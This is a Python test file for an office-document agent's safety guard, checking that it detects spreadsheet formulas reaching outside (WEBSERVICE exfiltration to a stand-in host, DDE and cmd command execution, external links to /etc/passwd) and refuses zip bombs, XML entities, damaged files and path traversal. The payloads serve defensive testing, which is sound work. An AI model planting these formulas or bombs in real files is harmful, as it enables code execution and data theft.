"""Files made to bring programs down, formulas that carry data away, and what a file holds that a person should know."""

from __future__ import annotations

import io
import struct
import zipfile
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from mcp_agent_office.files import saved
from mcp_agent_office.guard import bombs
from mcp_agent_office.guard.bombs import check_bytes
from mcp_agent_office.guard.formulas import reaches_out

from mcp_agent import ToolError
from plugins.office.tests.desk import Desk, at_the_desk

REACHING = [
    '=WEBSERVICE("http://x/?"&A1)',
    '=webservice("http://x")',
    '=_xlfn.WEBSERVICE("http://x")',
    '=_XLFN._xlws.WebService ("http://x")',
    '=@WEBSERVICE("http://x")',
    '=1+SUM(1,\n WEBSERVICE("http://x"))',
    '=COM.MICROSOFT.WEBSERVICE("http://x")',
    '=WEB\u200bSERVICE("http://x")',
    '=ＷＥＢＳＥＲＶＩＣＥ("http://x")',
    '=IF(A1="""",WEBSERVICE(B1),"")',
    '=IMAGE("http://x/a.png")',
    '=IMPORTXML("http://x","//a")',
    '=RTD("prog",,"x")',
    '=DDE("soffice";"/etc/passwd";"A1")',
    "=cmd|'/c calc'!A1",
    "=cmd|' /C calc'!'A1'",
    "=+cmd|'/c calc'!A1",
    "='[other.xlsx]Sheet1'!A1",
    "=[1]Sheet1!A1",
    "=[other.xlsx]Sheet1!$A$1",
    "='C:\\secret\\[b.xlsx]S'!A1",
    "='\\\\server\\share\\[b.xlsx]S'!A1",
    "='http://x/[b.xlsx]S'!A1",
    "='file:///etc/passwd'#$Sheet1.A1",
    "='/home/me/b.xlsx'!name",
    "=book.xlsx!name",
    "=SUM('[b.xlsx]S'!A1:A9)",
    "=INDIRECT(\"'file:///etc/passwd'#$Sheet1.A\"&ROW())",
    '=INDIRECT("[b.xlsx]S!A1")',
    '=REGISTER.ID("urlmon","URLDownloadToFileA")',
    '=CALL("urlmon","x")',
    '=STOCKHISTORY("MSFT",TODAY())',
    '=CUBEVALUE("connection","x")',
]
HARMLESS = [
    "=SUM(A1:A9)",
    '=IF(A1>2,"http://x","[not] a |link!")',
    "=Table1[Amount]*2",
    "=SUM(Table1[[#This Row],[a]:[b]])+Sheet2!B1",
    "=[@Amount]+Sheet2!B1",
    "='My sheet'!A1",
    "='It''s [ok]'",
    "=Sheet1:Sheet3!A1",
    "='First one:Last one'!A1",
    '=INDIRECT("A"&B1)',
    '=HYPERLINK("https://example.org","see")',
    "={1,2;3,4}",
    '=TEXT(A1,"[h]:mm|ss")',
    "=_xlfn.XLOOKUP(A1,B:B,C:C)",
    "=IMAGINARY(A1)",
]


@pytest.mark.parametrize("formula", REACHING)
def test_formulas_that_reach_out_are_seen(formula: str) -> None:
    assert reaches_out(formula)


@pytest.mark.parametrize("formula", HARMLESS)
def test_others_are_left_alone(formula: str) -> None:
    assert reaches_out(formula) is None


@given(
    name=st.sampled_from(["WEBSERVICE", "DDE", "RTD", "IMPORTDATA", "REGISTER.ID"]),
    cases=st.lists(st.booleans(), min_size=12, max_size=12),
    prefix=st.sampled_from(["", "_xlfn.", "_XLFN._xlws.", "@", "+", "-", " ", "\t", "SUM(1,", "A1&"]),
    gap=st.sampled_from(["", " ", "\n", "\u00a0"]),
)
def test_case_prefix_and_spaces_make_no_difference(name: str, cases: list[bool], prefix: str, gap: str) -> None:
    spelt = "".join(letter.lower() if low else letter for letter, low in zip(name, cases * 2, strict=False))
    assert reaches_out(f'={prefix}{spelt}{gap}("x")')


def package(**parts: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in parts.items():
            made.writestr(name.replace("__", "/") + ".xml", content)
    return buffer.getvalue()


def test_a_bomb_is_refused_however_its_header_lies() -> None:
    bomb = package(xl__sheet=b"<a>" + b" " * (64 * 2**20))
    with pytest.raises(ToolError, match="many hundred times"):
        check_bytes(bomb, "a.xlsx")
    size = struct.pack("<L", 64 * 2**20 + 3)
    lying = bomb.replace(size, struct.pack("<L", 100))
    assert lying != bomb
    with pytest.raises(ToolError):
        check_bytes(lying, "a.xlsx")


def test_many_parts_and_many_bytes_are_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    data = package(**{f"part{number}": b"<a/>" + b" " * 400 for number in range(50)})
    check_bytes(data, "a.xlsx")
    monkeypatch.setattr(bombs, "MOST_BYTES", 1000)
    with pytest.raises(ToolError, match="unpacks to more"):
        check_bytes(data, "a.xlsx")
    monkeypatch.setattr(bombs, "MOST_PARTS", 49)
    with pytest.raises(ToolError, match="parts"):
        check_bytes(data, "a.xlsx")


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "utf-16-le"])
@pytest.mark.parametrize("filler", [0, 262_140])
def test_entities_are_refused_wherever_they_stand(encoding: str, filler: int) -> None:
    text = f"<?xml version='1.0'?><!--{'x' * filler}--><!DOCTYPE a [<!ENTITY b 'bb'>]><a>&b;</a>"
    with pytest.raises(ToolError, match="entities"):
        check_bytes(package(word__document=text.encode(encoding)), "a.docx")


@pytest.mark.parametrize("data", [b"PK\x03\x04nonsense", b"PK" + bytes(500), package(x=b"<a/>" + b" " * 400)[:-40]])
def test_what_breaks_off_is_refused_in_words(data: bytes) -> None:
    with pytest.raises(ToolError, match="damaged"):
        check_bytes(data, "a.xlsx")


@given(st.binary(max_size=300), st.integers(0, 2000))
def test_any_damage_is_refused_or_harmless(noise: bytes, where: int) -> None:
    good = package(xl__workbook=b"<workbook/>" * 60, a=b"<b/>")
    broken = good[: where % len(good)] + noise + good[where % len(good) + len(noise) :]
    try:
        check_bytes(broken, "a.xlsx")
    except ToolError:
        return


def test_tools_say_what_a_file_holds_and_refuse_what_is_dangerous(tmp_path: Path) -> None:
    folder = tmp_path / "files"
    folder.mkdir()
    book = openpyxl.Workbook()
    book.active["A1"] = '=WEBSERVICE("http://127.0.0.1:9/")'  # as somebody else would make it
    book.active["A2"] = 7
    book.save(folder / "theirs.xlsx")
    (folder / "bomb.xlsx").write_bytes(package(xl__workbook=b" " * (64 * 2**20)))
    (folder / "text.xlsx").write_bytes(b"hello")

    async def work(desk: Desk) -> None:
        facts = await desk.call("describe_workbook", path="theirs.xlsx")
        assert "WEBSERVICE" in facts["warnings"][0]
        assert "hundred times" in await desk.refused("read_sheet", path="bomb.xlsx")
        assert "damaged" in await desk.refused("read_sheet", path="text.xlsx")
        before = (folder / "theirs.xlsx").read_bytes()
        for formula in REACHING:
            told = await desk.refused("write_cells", path="theirs.xlsx", rows=[[formula]], at="B1")
            assert "refused" in told
            told = await desk.refused("create_workbook", path="n.xlsx", sheets=[{"name": "S", "rows": [[formula]]}])
            assert "refused" in told
        assert (folder / "theirs.xlsx").read_bytes() == before
        assert not (folder / "n.xlsx").exists()
        for path in ("../x.xlsx", "/etc/x.xlsx", "//server/share/x.xlsx", "a/../../x.xlsx"):
            await desk.refused("read_sheet", path=path)
            await desk.refused("create_workbook", path=path, sheets=[{"name": "S", "rows": [[1]]}])

    at_the_desk(folder, work)


def far_apart() -> bytes:
    book = openpyxl.Workbook()
    book.active["A1"], book.active["XFD1048576"] = 1, 2
    return saved(book)


def test_cells_at_the_far_end_do_not_eat_the_memory(tmp_path: Path) -> None:
    folder = tmp_path / "files"
    folder.mkdir()
    (folder / "far.xlsx").write_bytes(far_apart())
    cell = '<table:table-cell office:value-type="float"/>'
    row = f'<table:table-row table:number-rows-repeated="1048576">{cell}</table:table-row>'
    with zipfile.ZipFile(folder / "far.ods", "w") as made:
        made.writestr("content.xml", f'<a xmlns:table="t" xmlns:office="o">{row}</a>')

    async def work(desk: Desk) -> None:
        for name in ("far.xlsx", "far.ods"):
            assert "far apart" in await desk.refused("read_sheet", path=name)

    at_the_desk(folder, work)


def test_a_part_that_breaks_off_is_named_as_damage() -> None:
    with pytest.raises(ToolError, match="damaged"):
        check_bytes(package(word__document=b"<a><b></a>"), "a.docx")
